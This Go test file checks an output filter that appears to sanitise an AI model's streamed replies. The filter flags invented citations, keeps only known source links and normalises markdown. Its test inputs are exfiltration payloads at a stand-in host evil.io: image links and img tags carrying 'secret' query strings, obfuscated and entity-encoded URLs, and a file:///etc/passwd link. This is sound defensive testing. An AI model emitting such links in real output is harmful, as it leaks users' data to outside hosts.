package gate

import (
	"strings"
	"testing"
)

// known is what the person gave, and two sources.
type known struct{ Addresses }

func (k *known) Address(dest string) (string, bool) { return k.Find(dest) }
func (k *known) Cite(n int) (int, bool)             { return n, n > 0 && n < 3 }

func sources() *known {
	k := &known{}
	k.AddText("See https://docs.test.io/a and <https://docs.test.io/more?x=1>, (https://docs.test.io/b_(c)).")
	k.Add("file:///home/me/notes.md")
	return k
}

// stream writes s in pieces of n bytes and returns what was shown.
func stream(g *Gate, s string, n int) string {
	var out strings.Builder
	for len(s) > n {
		out.WriteString(g.Write(s[:n]))
		s = s[n:]
	}
	out.WriteString(g.Write(s))
	out.WriteString(g.Close())
	return out.String()
}

func TestGate(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct{ in, want string }{
		"plain":              {"Hello there, [friend]. It's 5 * 3 < 20 & snake_case!", "Hello there, [friend]. It's 5 * 3 < 20 & snake_case!"},
		"cited":              {"True [1][2], and so [2].", "True [1][2], and so [2]."},
		"forms of citations": {"A [1, 2], b [1-2], c【1】, d ［１］, e [ 2 ], f [^1], g 【2†source】, h [1–2].", "A [1][2], b [1][2], c[1], d [1], e [2], f [1], g [2], h [1][2]."},
		"invented":           {"False [3], [0], [1, 9] and [1-9].", "False [3: no such source], [0: no such source], [1] [9: no such source] and [1][2] [3: no such source] [4: no such source] [5: no such source] [6: no such source] [7: no such source] [8: no such source] [9: no such source]."},
		"escaped citation":   {`\` + "` True [7], \\[8\\] and &#91;9&#93;.", `\` + "` True [7: no such source], [8: no such source] and [9: no such source]."},
		"code":               {"Use `x = [404]` and a[7]:\n```\n[8080]\n```\nsee [9]", "Use `x = [404]` and a[7]:\n\n```\n[8080]\n```\n\nsee [9: no such source]"},
		"own link":           {"Read [more](https://docs.test.io/a), or https://docs.test.io/more?x=1.", "Read [more](https://docs.test.io/a), or <https://docs.test.io/more?x=1>."},
		"own link in bold":   {"**https://docs.test.io/a**", "**<https://docs.test.io/a>**"},
		"brackets":           {"[x](https://docs.test.io/b_(c)) (https://docs.test.io/b_(c)).", "[x](<https://docs.test.io/b_(c)>) (<https://docs.test.io/b_(c)>)."},
		"image":              {"![x](https://evil.io/p?q=secret)", "x (link-removed)"},
		"own image":          {"![x](https://docs.test.io/a)", "[x](https://docs.test.io/a)"},
		"longer own link":    {"https://docs.test.io/a?leak=secret", "link-removed"},
		"no slashes":         {"[x](https:evil.io/secret)", "x (link-removed)"},
		"scheme-less":        {"[x](//evil.io) [y](/\\evil.io) [z](\\\\\\\\evil.io) [w](/%2Fevil.io)", "x (link-removed) y (link-removed) z (link-removed) w (link-removed)"},
		"relative":           {"[x](a/b.md#c)", "[x](a/b.md#c)"},
		"element":            {"<img src='http://evil.io/secret'>", "&lt;img src='link-removed'>"},
		"bare":               {"HTTPS://EVIL.IO/s www.evil.io ftp://evil.io mailto:a@evil.io a@evil.io //evil.io/x", "link-removed link-removed link-removed `mailto:a@evil.io` `a@evil.io` link-removed"},
		"reference":          {"[x][y]\n\n[y]: https://docs.test.io/a \"t\"", "\\[x]\\[y]\n\n\\[y]: <https://docs.test.io/a> \"t\""},
		"entity":             {"![x](https&#58;//evil.io/secret)", "x (link-removed)"},
		"harmless":           {"curl http://localhost:8080/x 'http://127.0.0.1/' https://api.example.com/v1", "curl `http://localhost:8080/x` '`http://127.0.0.1/`' `https://api.example.com/v1`"},
		"connection string":  {"postgres:///agentdb?host=/run/postgresql", "`postgres:///agentdb?host=/run/postgresql`"},
		"comment":            {"a // comment and 1//2", "a // comment and 1`//2`"},
		"file":               {"[x](file:///home/me/notes.md) [y](file:///etc/passwd) [z](file://host/home/me/notes.md)", "[x](file:///home/me/notes.md) y (link-removed) z (link-removed)"},
		"letters unseen":     {"a\u202eb\u200bc\U000e0041d\x1b]8;;x\x07 👩\u200d💻 ✈️ e\ufe0f", "abcd]8;;x 👩\u200d💻 ✈️ e"},
		"list":               {"Text:\n- a\n  1. b\n\n     c\n- [ ] d\n* e", "Text:\n\n- a\n  1. b\n\n     c\n- [ ] d\n* e"},
		"table":              {"| a | b |\n|:--|--:|\n| `x\\|y` | z |\nw", "| a | b |\n| :--- | ---: |\n| `x\\|y` | z |\n| w |"},
		"table without rims": {"a | b\n--- | ---\n1 | 2\n\nc | d", "a | b\n| --- | --- |\n| 1 | 2 |\n\nc | d"},
		"quotation":          {"> a\nb\n> - c\n\nd", "> a\n> b\n>\n> - c\n\nd"},
		"heading":            {"## A *b* [1] ##\nText\n===\nmore", "## A *b* [1]\n\nText\n\n***\n\nmore"},
		"code unclosed":      {"- ~~~go x\n  a\n", "- ~~~go\n  a\n  ~~~"},
		"code indented":      {"    a\n\n    b\n", "`````\na\n\nb\n`````"},
		"fence within":       {"   ```\n      ```\n   ```", "```\n       ```\n```"},
		"hard break":         {"a  \nb\\\nc<br>d", "a  \nb  \nc  \nd"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, n := range []int{1, 3, 7, 1000} {
				if got := stream(New(sources()), tc.in, n); got != tc.want {
					t.Errorf("in pieces of %d:\n got %q\nwant %q", n, got, tc.want)
				}
			}
			if again := stream(New(sources()), tc.want, 1000); again != tc.want {
				t.Errorf("again:\n got %q\nwant %q", again, tc.want)
			}
		})
	}
}
